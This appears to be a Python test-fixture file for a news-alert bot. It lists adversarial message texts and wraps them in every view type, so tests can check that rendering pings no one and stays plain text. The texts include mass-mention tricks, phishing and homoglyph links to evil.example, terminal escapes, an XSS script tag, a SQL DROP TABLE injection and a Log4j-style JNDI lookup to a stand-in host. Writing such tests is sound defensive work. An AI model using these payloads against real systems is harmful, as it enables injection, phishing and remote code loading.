"""Texts that a feed or a person may send to break a message, and views that say them; for every platform's tests.

A platform that shows them must ping nobody, keep its limits, be refused nothing, and show no more than text.
"""

from collections.abc import Mapping
from dataclasses import replace

from bot.model import (
    AlertView,
    CardView,
    ChangeView,
    Claim,
    HistoryView,
    Kind,
    Modality,
    PostView,
    Section,
    Source,
    Span,
    TableView,
    View,
    WhyView,
)
from bot.views import post_view
from tests.newsroom import NOW, TOPIC, alert, post, statement

TEXTS: Mapping[str, str] = {
    "everyone": "@everyone 1,500 escaped",
    "here": "@here now",
    "everyone in bold": "**@everyone**",
    "everyone after a zero width space": "@\u200beveryone",
    "user mention": "<@80351110224678912> did it",
    "nickname mention": "<@!80351110224678912>",
    "role mention": "<@&165511591545143296>",
    "channel mention": "see <#103735883630395392>",
    "slash command mention": "</tally figures:1064132141234567890>",
    "guild navigation": "<id:customize>",
    "custom emoji": "<:party:41771983429993937>",
    "animated emoji": "<a:party:41771983429993937>",
    "shortcode": ":smile: :+1: :flag_us:",
    "timestamp": "<t:1618953630:R>",
    "telephone": "<+19998887777>",
    "address in brackets": "<https://evil.example>",
    "everyone after marks": "@\u0307everyone @every\u200bone @\u2060here",
    "full width everyone": "＠everyone ＠here",
    "mention in bytes": "&lt;!channel&gt; &lt;@U024BE7LH&gt; &amp;lt;!here&amp;gt;",
    "Slack channel mention": "<!channel> <!here> <!everyone>",
    "Slack group mention": "<!subteam^S1A2B3C4D> <!subteam^S1A2B3C4D|@desk>",
    "Slack user mention": "<@U024BE7LH> <@W024BE7LH|ana>",
    "Slack channel link": "<#C024BE7LR|general>",
    "Slack masked link": "<https://evil.example|your bank> <http://evil.example|https://bank.example>",
    "Slack mail link": "<mailto:a@evil.example|write to us> mailto:a@evil.example",
    "Slack date": "<!date^1392734382^{date_short} at {time}^https://evil.example|now>",
    "open Slack bracket": "<https://evil.example|never closed",
    "Slack marks": "*137* _128_ ~120~ `x`",
    "bare name after a sign": "@channel @here @general #general",
    "bare address": "go to https://evil.example/x?y=1#z now",
    "address of another scheme": "javascript://alert(1) steam://run/1 discord://-/channels/@me",
    "address without a scheme": "www.evil.example/login",
    "homoglyph link": "https://аррlе.example/ https://xn--80ak6aa92e.example/ раураl.example/login",
    "link behind a user": "https://bank.example@evil.example/ https://bank.example%2F@evil.example",
    "link with marks in it": "ht\u200btps://evil.example discord\u200b.gg/scam dis\u00adcord.gg/scam",
    "loud link": "HTTPS://EVIL.EXAMPLE DISCORD.GG/SCAM",
    "masked link": "[your bank](https://evil.example)",
    "masked link with a title": '[a](<https://evil.example> "b")',
    "masked link in two parts": "[figures] (https://evil.example)",
    "image": "![x](https://evil.example/x.png)",
    "invite": "discord.gg/scam",
    "long invite": "discord.com/invite/scam and discordapp.com/invite/scam",
    "gift": "discord.gift/abcdef",
    "joined invites": "xdiscord.gg/a https:discord.gg/a discord.gg\u2024a",
    "bold": "**137** __128__ ***all***",
    "italics": "*1* _2_",
    "strike": "~~120~~",
    "spoiler": "||120|| hidden",
    "code": "`rm -rf` ``x``",
    "code block": "```py\n@everyone\n```",
    "open code block": "``` never closed",
    "heading": "# 1,500 dead",
    "small print": "-# not really",
    "quote": "> he said",
    "block quote": ">>> everything below",
    "list": "- one\n- two\n* three\n1. four",
    "numbered": "1. escaped",
    "backslashes": "\\\\@everyone \\* \\",
    "backslash at the end": "120\\",
    "forged headline": "x\r\n🔴 CONFLICT forged: 9 v 10\n\n\n**done**",
    "other line ends": "a\u2028b\u2029c\u0085d\x0be",
    "right to left": "\u202egnp.exe 051 \u2066x\u2069",
    "zalgo": "1" + "\u0335\u0336\u0337\u0338\u0321\u0322\u0327" * 300 + "20",
    "zero width": "\u200b\u200d\ufeff" * 3_000,
    "control characters": "\x00\x07\x1b[31mred\x7f",
    "terminal title": "\x1b]0;owned\x07 \x9b2J \x1b[2J\x1b[H",
    "terminal link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "carriage returns over a line": "137 escaped\r0 escaped \r\b\b\b",
    "terminal markup": "[bold red]137[/] [link=https://evil.example]x[/link]",
    "other bidi": "\u061c\u200e\u200f\u202a\u202b\u202c\u202d137\u2067",
    "tag letters": "".join(chr(0xE0000 + ord(letter)) for letter in "hidden words"),
    "variation selectors": "1\ufe0f\u20e33\ufe0f\u20e37\ufe0f\u20e3" + "\ufe00" * 200,
    "lone surrogate": "12\ud83d0",
    "other lone surrogate": "\udc00\udfff 120 \ud800",
    "private use": "\ue000\U000f0000",
    "emoji families": "👨‍👩‍👧‍👦" * 500,
    "astral letters": "𝟏𝟐𝟎 " * 2_000,
    "a hundred thousand characters": "word " * 20_000,
    "one long word": "W" * 100_000,
    "nothing but stars": "*" * 5_000,
    "nothing but brackets": "[(" * 3_000,
    "hangul filler": "\u3164" * 50,
    "ideographic blanks": "\u3000" * 100,
    "empty": "",
    "blank": "   \n\t ",
    "html": "<script>alert(1)</script>&lt;b&gt;",
    "template": "${jndi:ldap://evil.example/a} {{7*7}} %s %n",
    "sql": "'; DROP TABLE ledger; --",
    "channel": "<!channel> 1,500 escaped",
    "here of Slack": "<!here|here>",
    "everyone of Slack": "<!everyone>",
    "user of Slack": "<@U012AB3CD> did it",
    "user group": "<!subteam^S012AB3CD|@desk>",
    "channel of Slack": "see <#C012AB3CD|general>",
    "link with words": "<https://evil.example|your bank>",
    "mail address": "<mailto:boss@paper.example|write>",
    "date token": "<!date^1392734382^{date} at {time}^https://evil.example|x>",
    "escaped already": "&lt;!channel&gt; &amp;lt;!here&amp;gt;",
    "half an escape": "&l &amp &#42; &",
    "bold of Slack": "*137* ** *all*",
    "strike of Slack": "~120~ ~~x~~ ~120 and 130~",
    "italics of Slack": "_1_ __2__",
    "code of Slack": "`rm` ``` never closed",
    "quote of Slack": "> he said\n>>> and everything below",
    "shortcode of Slack": ":fire: a:100:b ::: :+1::skin-tone-2:",
    "bars and carets": "a|b^c|d> e<",
    "end of a link": "x>|<!channel>",
}


def post_of(text: str, alerts: int = 1) -> PostView:
    """Return what the views make of alerts whose article, quote, speakers and names all say the text."""
    claim = Claim(id="told", title=text, question=text, key=True, unit=text)
    topic = replace(TOPIC, title=text, claims=(claim,), sources=(Source(id="agency", name=text[:100], aliases=()),))
    told = [
        replace(
            statement("120", 120, claim=claim, source=source, said_by=text, outlet=text, quote=f"{text} {{}} {text}"),
            via=text,
            url=f"https://news.example/{text}",
            modality=modality,
        )
        for source in ("agency", f"other:{text}", None)
        for modality in (Modality.ACTUAL, Modality.ACCUSED)
    ]
    printed = replace(told[0], figure=replace(told[0].figure, surface=text))
    kinds = (Kind.CONFLICT, Kind.REVISION, Kind.FIRST, Kind.NOTE)
    made = [alert(kinds[n % len(kinds)], (printed, *told)[n % len(told)], *told[n % 2 :]) for n in range(alerts)]
    return post_view(post(*made), {topic.id: topic}, NOW)


def block_of(text: str) -> AlertView:
    """Return an alert in words that are nothing but the text."""
    line = (Span(text), Span(text, strong=True), Span("2 h ago", when=NOW))
    return AlertView(
        kind=Kind.CONFLICT, dot="🔴", word="CONFLICT", headline=text, lines=(line,) * 5, quotes=(line,) * 3
    )


def messages_of(text: str) -> tuple[PostView | CardView, ...]:
    """Return whatever is put into a channel, saying the text in each of its places."""
    line = (Span(text), Span(text, strong=True), Span("2 h ago", when=NOW))
    plain = PostView(
        preview=text[:80],
        alerts=(block_of(text),),
        footer=(Span(text), Span("read 2 min ago", when=NOW), Span(text)),
        url=f"https://news.example/{text}",
    )
    return (
        plain,
        replace(plain, alerts=(block_of(text),) * 6),
        replace(plain, alerts=(replace(block_of(text), struck=text),) * 3),
        post_of(text),
        post_of(text, alerts=6),
        CardView(title=text, sections=(Section(heading=text, lines=(line,) * 3),) * 5, note=line),
    )


def views_of(text: str) -> tuple[View, ...]:
    """Return every kind of view, saying the text in each of its places."""
    line = (Span(text), Span(text, strong=True), Span("2 h ago", when=NOW))
    change = ChangeView(id="#1", kind=Kind.UPDATE, dot="🟢", word="UP", when=text, line=line, quote=line)
    return (
        messages_of(text)[0],
        messages_of(text)[-1],
        HistoryView(title=text, question=text, changes=(change, replace(change, struck=True)) * 3, note=text),
        WhyView(title=text, facts=((text, line),) * 6, url=f"https://news.example/{text}"),
        TableView(title=text, headings=(text,), rows=((text, text),) * 12, note=text),
    )
